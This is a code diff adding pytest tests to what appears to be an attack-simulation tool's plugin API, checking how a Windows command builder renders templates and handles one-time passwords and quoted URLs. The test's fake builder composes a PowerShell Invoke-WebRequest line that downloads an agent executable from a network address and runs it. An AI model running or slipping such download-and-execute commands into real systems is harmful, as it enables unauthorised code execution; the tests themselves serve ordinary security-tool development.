@@ -1,8 +1,16 @@
 from pathlib import PureWindowsPath
+from urllib.parse import quote
 
 import pytest
 
-from agentpluginapi import DropperExecutionMode, WindowsRunOptions, WindowsShell
+from agentpluginapi import (
+    DropperExecutionMode,
+    IWindowsAgentCommandBuilder,
+    WindowsDownloadMethod,
+    WindowsDownloadOptions,
+    WindowsRunOptions,
+    WindowsShell,
+)
 
 
 @pytest.mark.parametrize(
@@ -27,3 +35,102 @@ def test_windows_otp_present_for_dropper_script():
             dropper_destination_path=None,
             include_otp=False,
         )
+
+
+class FakeWindowsAgentCommandBuilder(IWindowsAgentCommandBuilder):
+    def __init__(self):
+        self._command = ""
+
+    def build_download_command(self, download_options: WindowsDownloadOptions):
+        self._command += (
+            f"Invoke-WebRequest -Uri '{download_options.download_url}' "
+            f"-OutFile '{download_options.agent_destination_path}'; "
+        )
+
+    def build_run_command(self, run_options: WindowsRunOptions):
+        self._command += f"{run_options.agent_destination_path} m0nk3y"
+        if run_options.otp is not None:
+            self._command += f" --otp {run_options.otp}"
+
+    def get_command(self) -> str:
+        return self._command
+
+    def reset_command(self):
+        self._command = ""
+
+
+AGENT_DESTINATION_PATH = PureWindowsPath("C:\\agent.exe")
+DOWNLOAD_OPTIONS = WindowsDownloadOptions(
+    agent_destination_path=AGENT_DESTINATION_PATH,
+    download_method=WindowsDownloadMethod.WEB_REQUEST,
+    download_url="http://unused",
+)
+
+
+def test_windows_run_options__otp_without_include_otp():
+    with pytest.raises(ValueError):
+        WindowsRunOptions(
+            agent_destination_path=AGENT_DESTINATION_PATH,
+            dropper_execution_mode=DropperExecutionMode.NONE,
+            shell=WindowsShell.CMD,
+            include_otp=False,
+            otp="abc",
+        )
+
+
+@pytest.mark.parametrize("include_otp", [False, True])
+def test_build_command_template(include_otp: bool):
+    run_options = WindowsRunOptions(
+        agent_destination_path=AGENT_DESTINATION_PATH,
+        dropper_execution_mode=DropperExecutionMode.NONE,
+        shell=WindowsShell.POWERSHELL,
+        include_otp=include_otp,
+    )
+    builder = FakeWindowsAgentCommandBuilder()
+
+    command_template = builder.build_command_template(DOWNLOAD_OPTIONS, run_options)
+
+    download_url = "http://10.0.0.1:5000/abc"
+    otp = "0tp" if include_otp else None
+    builder.build_download_command(
+        DOWNLOAD_OPTIONS.model_copy(update={"download_url": download_url})
+    )
+    builder.build_run_command(run_options.model_copy(update={"otp": otp}))
+    assert command_template.render(download_url, otp) == builder.get_command()
+    assert command_template.includes_otp == include_otp
+
+
+def test_build_command_template__otp_ignored():
+    class OTPIgnoringWindowsAgentCommandBuilder(FakeWindowsAgentCommandBuilder):
+        def build_run_command(self, run_options: WindowsRunOptions):
+            super().build_run_command(run_options.model_copy(update={"otp": None}))
+
+    with pytest.raises(ValueError):
+        OTPIgnoringWindowsAgentCommandBuilder().build_command_template(
+            DOWNLOAD_OPTIONS,
+            WindowsRunOptions(
+                agent_destination_path=AGENT_DESTINATION_PATH,
+                dropper_execution_mode=DropperExecutionMode.NONE,
+                shell=WindowsShell.POWERSHELL,
+            ),
+        )
+
+
+def test_build_command_template__download_url_quoted():
+    class QuotingWindowsAgentCommandBuilder(FakeWindowsAgentCommandBuilder):
+        def build_download_command(self, download_options: WindowsDownloadOptions):
+            quoted_url = quote(download_options.download_url, safe=":/")
+            super().build_download_command(
+                download_options.model_copy(update={"download_url": quoted_url})
+            )
+
+    with pytest.raises(ValueError):
+        QuotingWindowsAgentCommandBuilder().build_command_template(
+            DOWNLOAD_OPTIONS,
+            WindowsRunOptions(
+                agent_destination_path=AGENT_DESTINATION_PATH,
+                dropper_execution_mode=DropperExecutionMode.NONE,
+                shell=WindowsShell.POWERSHELL,
+                include_otp=False,
+            ),
+        )